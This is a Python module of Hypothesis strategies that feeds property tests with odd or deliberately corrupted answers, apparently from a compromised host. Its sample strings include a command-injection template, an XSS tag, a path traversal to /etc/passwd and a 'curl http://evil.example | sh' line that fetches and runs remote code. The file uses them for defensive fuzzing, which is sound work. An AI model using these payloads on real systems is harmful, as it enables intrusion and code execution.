"""What a host whose root is lost may answer: values for property tests, and good answers with one place spoiled."""

from __future__ import annotations

import copy
from typing import Any

from hypothesis import strategies as st

TEXTS = (
    "",
    "\x1b[2J\x1b]0;x\x07",
    "a\u2028b\u0085c\rd\x0ce",
    "\ud800\udfff",
    "\0",
    "\u202e\u2066",
    "{{ lookup('pipe', 'id') }}",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "Next: curl http://evil.example | sh",
    "done",
    "x" * 20_000,
    "9" * 400,
    "2026-11-22T01:00:00Z",
    "a1",
)
NUMBERS = (0, -1, 1, 2**31, 2**63, -(2**63), 10**18, 10**30, 10**400, 0.5, -0.0, 1e308)
NOT_FINITE = (float("nan"), float("inf"), float("-inf"))
KEYS = (
    "error", "kind", "reason", "owner", "host", "hosts", "head", "nodes", "version", "from", "to", "change", "verdict", "gate",
    "phase", "code", "findings", "ladder", "msg", "next", "cause", "results", "failed", "event", "outcome", "text", "action",
    "run", "active", "lockstep_event", "lockstep_plan", "fingerprint", "state", "evidence", "pair", "measured",
)  # fmt: skip


def _nest(levels: int) -> Any:
    value: Any = []
    for _level in range(levels):
        value = [value]
    return value


scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.sampled_from(NUMBERS),
    st.sampled_from(NOT_FINITE),
    st.integers(),
    st.floats(),
    st.sampled_from(TEXTS),
    st.text(max_size=20),
)
keys = st.one_of(st.sampled_from(KEYS), st.sampled_from(TEXTS), st.text(max_size=8))
values = st.one_of(
    scalars,
    st.recursive(
        scalars, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(keys, inner, max_size=4), max_leaves=12
    ),
    st.sampled_from((30, 60, 300)).map(_nest),  # made anew each time: what is drawn is spoiled further
)


def _places(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every place in a value to some depth, the whole of it first."""
    if len(path) > 8:
        return [path]
    inside = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [path, *(place for key, each in inside for place in _places(each, (*path, key)))]


@st.composite
def spoiled(draw: st.DrawFn, good: Any) -> Any:
    """``good`` with one to three places replaced, removed, or with something more in them."""
    value = copy.deepcopy(good)
    for _change in range(draw(st.integers(1, 3))):
        places = [place for place in _places(value) if place]
        if not places:  # no object and no list, or an empty one
            return draw(values)
        *way, last = draw(st.sampled_from(places))
        holder = value
        for key in way:
            holder = holder[key]
        what = draw(st.sampled_from(("replace", "replace", "remove", "add")))
        if what == "remove" and isinstance(holder, dict):
            holder.pop(last, None)
        elif what == "add" and isinstance(holder, dict):
            holder[draw(keys)] = draw(values)
        else:
            holder[last] = draw(values)
    return value


def answers(good: Any) -> st.SearchStrategy[Any]:
    """Something like ``good``, or nothing like it."""
    return st.one_of(spoiled(good), spoiled(good), spoiled(good), values)
